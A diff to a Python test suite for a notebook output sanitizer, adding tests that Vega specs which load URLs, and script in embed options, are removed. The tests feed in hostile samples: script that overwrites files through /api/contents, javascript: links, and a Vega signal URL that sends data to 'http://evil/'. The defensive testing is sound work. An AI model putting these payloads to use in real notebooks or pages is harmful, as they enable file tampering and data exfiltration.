@@ -34,6 +34,12 @@ def assert_inert(text) -> None:
     assert not re.search(r"data:text/html", html.unescape(text), re.I), text
 
 
+def _bundle(data: dict, metadata: dict):
+    """((data, metadata), dropped) of sanitize_bundle."""
+    clean = sanitize.sanitize_bundle(data, metadata)
+    return tuple(clean), clean.dropped
+
+
 HOSTILE_HTML = {
     "script": "<script>fetch('/api/contents/x', {method: 'PUT'})</script>ok",
     "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
@@ -254,13 +260,37 @@ DATA = {
 
 @pytest.mark.parametrize("mime", DATA)
 def test_data_types_pass_unchanged(mime):
-    data, metadata, dropped = sanitize.sanitize_bundle({mime: DATA[mime]}, {mime: {"width": 3}})
+    (data, metadata), dropped = _bundle({mime: DATA[mime]}, {mime: {"width": 3}})
     assert data == {mime: DATA[mime]} and metadata == {mime: {"width": 3}} and dropped == []
+
+
+VEGA_LOADERS = {
+    "data url": {"data": {"url": "/api/contents/secret.txt"}, "mark": "text"},
+    "signal url": {"data": [{"name": "d", "url": {"signal": "'http://evil/?' + x"}}]},
+    "nested": {"layer": [{"data": {"values": []}}, {"data": {"url": "x.json"}}]},
+    "image mark": {"mark": "image", "encoding": {"url": {"field": "img"}}, "data": {"values": []}},
+}
+
+
+@pytest.mark.parametrize("mime", ["application/vnd.vegalite.v5+json", "application/vnd.vega.v5+json"])
+@pytest.mark.parametrize("spec", VEGA_LOADERS.values(), ids=VEGA_LOADERS.keys())
+def test_vega_specs_that_load_urls_are_dropped(mime, spec):
+    (data, _), dropped = _bundle({mime: spec, "text/plain": "chart"}, {})
+    assert data == {"text/plain": "chart"} and dropped == [mime]
+
+
+def test_vega_embed_options_are_taken_out_of_a_spec():
+    spec = {"mark": "bar", "data": {"values": [{"a": 1}]},
+            "usermeta": {"embedOptions": {"sourceFooter": "<script>x</script>"}}}
+    (data, _), dropped = _bundle({"application/vnd.vegalite.v5+json": spec}, {})
+    assert data == {"application/vnd.vegalite.v5+json": {"mark": "bar", "data": {"values": [{"a": 1}]}}}
+    assert dropped == []
 
 
 def test_latex_passes_with_its_script_urls_neutralised():
     math = r"$$\int_0^1 x^2 \, dx = \frac{1}{3}$$"
-    assert sanitize.sanitize_bundle({"text/latex": math}, {})[0] == {"text/latex": math}
+    data, metadata = sanitize.sanitize_bundle({"text/latex": math}, {})
+    assert data == {"text/latex": math} and metadata == {}
     assert_inert(sanitize.sanitize_bundle({"text/latex": r"$\href{javascript:alert(1)}{x}$"}, {})[0]["text/latex"])
 
 
@@ -274,25 +304,25 @@ ACTIVE = ["application/javascript", "text/javascript", "application/x-javascript
 
 @pytest.mark.parametrize("mime", ACTIVE)
 def test_active_and_unknown_types_are_dropped(mime):
-    data, metadata, dropped = sanitize.sanitize_bundle(
+    (data, metadata), dropped = _bundle(
         {mime: "fetch('/api/contents')", "text/plain": "<object>"}, {mime: {"x": 1}, "isolated": True})
     assert data == {"text/plain": "<object>"} and dropped == [mime]
     assert metadata == {"isolated": True}
 
 
 def test_a_bundle_with_nothing_left_says_what_was_not_shown():
-    data, _, dropped = sanitize.sanitize_bundle({"application/javascript": "alert(1)"}, {})
+    (data, _), dropped = _bundle({"application/javascript": "alert(1)"}, {})
     assert dropped == ["application/javascript"]
     assert "application/javascript" in data["text/plain"] and "--trust-output" in data["text/plain"]
 
 
 def test_markup_that_is_no_string_is_dropped():
-    data, _, dropped = sanitize.sanitize_bundle({"text/html": ["<b>", "x"], "text/plain": "x"}, {})
+    (data, _), dropped = _bundle({"text/html": ["<b>", "x"], "text/plain": "x"}, {})
     assert data == {"text/plain": "x"} and dropped == ["text/html"]
 
 
 def test_metadata_cannot_claim_the_hosts_marks():
-    _, metadata, _ = sanitize.sanitize_bundle(
+    (_, metadata), _ = _bundle(
         {"text/plain": "x"}, {"sandbox_kernel": {"footer": True}, "text/plain": {"a": 1}})
     assert metadata == {"text/plain": {"a": 1}}
 
